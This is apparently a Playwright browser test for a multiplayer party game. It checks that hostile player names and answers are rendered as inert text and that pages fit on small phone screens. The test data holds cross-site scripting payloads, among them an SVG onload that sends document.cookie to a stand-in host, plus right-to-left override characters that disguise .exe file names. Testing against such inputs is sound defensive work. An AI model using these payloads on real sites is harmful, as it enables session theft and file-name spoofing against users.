"""Names and answers that mean harm: they are shown as what they are, and do nothing."""

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.looks import fits, fits_whole, still
from tests.browser.person import Person
from tests.browser.screen import Stage
from tests.faults.world import Server

pytestmark = [pytest.mark.services, pytest.mark.browser, pytest.mark.timeout(300)]

MARKUP = "<img src=x onerror=alert(1)>"
SMALL = {"width": 320, "height": 640}
TURNING = "Ada \u202egnp.exe"
# A name that runs the other way and ends in brackets, one without a gap, and one that is markup.
NAMES = ("عادة (1) ]alert", "W" * 32, MARKUP)
# As many marks on one letter as an answer has room for, and signs that turn a line round.
REFUSED = ("Z" + "\u0301" * 279, "\u202e\u2066 evil \u202dtxt.exe\u2069 " * 12)
ANSWERS = {
    "markup": f'"><svg onload=fetch("//example.test/?"+document.cookie)> {MARKUP}',
    "marks": "Z\u0301\u0327\u0308\u0335" * 56,
    "a word": "Donaudampfschifffahrtsgesellschaft" * 8,
    "both ways": "مرحبا (evil) txt.exe ]) שלום > " * 9,
    "signs": "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
}


def test_hostile_words_are_words(browser: Browser, site: Server) -> None:
    """No dialog, no request, nothing outside 320 pixels, on phones and on the stage."""
    people = [Person(browser, site.page, name, is_mobile=True, viewport=SMALL) for name in NAMES]
    refused(people[0])
    people[0].arrive()
    code = people[0].host(agents=0, voting="120", reveal_time="2")
    for each in people[1:]:
        each.arrive(f"#{code}")
        each.reach("lobby")
    tv = Stage(browser, site.page)
    tv.show(code)
    tv.on("lobby")
    expect(people[0].page.locator("#players li")).to_have_count(3)
    well([*people, tv], tv, "lobby")
    people[2].say(f"javascript:alert(1) {MARKUP}")
    people[2].turn_chat(wanted=False)
    people[0].touch("#start")
    people[0].reach("answering")
    for text in REFUSED:
        people[0].page.fill("#answer", text)
        people[0].touch("#send")
        expect(people[0].page.locator("#error")).to_contain_text("not accepted")
        expect(people[0].page.locator("#answer")).to_have_value(text)
        fits(people[0].page, "an answer that is refused")
    kinds = list(ANSWERS)
    for turn in range(5):
        for offset, person in enumerate(people):
            person.answer(ANSWERS[kinds[(turn + offset) % len(kinds)]])
        for person in people:
            person.reach("voting")
        tv.past("prompt", "judging")
        well(people, tv, f"voting, round {turn + 1}")
        for person in people:
            person.vote()
        people[0].reach("reveal")
        well(people[:1], tv, f"reveal, round {turn + 1}")
    for person in people:
        person.reach("completed")
    tv.on("podium")
    well(people, tv, "podium")
    people[0].touch("#replay-end")
    expect(people[0].page.locator("#replay-scene")).to_be_visible()
    for _ in range(6):
        people[0].touch("#replay-next")
    fits(people[0].page, "replay")
    assert [each.complaints for each in (*people, tv)] == [[]] * 4


def refused(person: Person) -> None:
    """A name that would turn the line round for everybody else is none; the page says so."""
    person.page.goto(person.url)
    person.page.fill("#name", TURNING)
    person.touch("#go")
    expect(person.page.locator("#error")).to_be_visible()
    fits(person.page, "refused")


def well(people: list[Person], tv: Stage, where: str) -> None:
    """Nothing of theirs became a part of the page, and nothing sticks out."""
    for person in people:
        page = person.page
        assert page.locator("img[src=x], svg[onload], main a[href^=javascript]").count() == 0
        still(page)
        if person is not tv:
            fits(page, f"{where}, {person.name}")
    still(tv.page)
    fits_whole(tv.page, f"{where}, the stage")
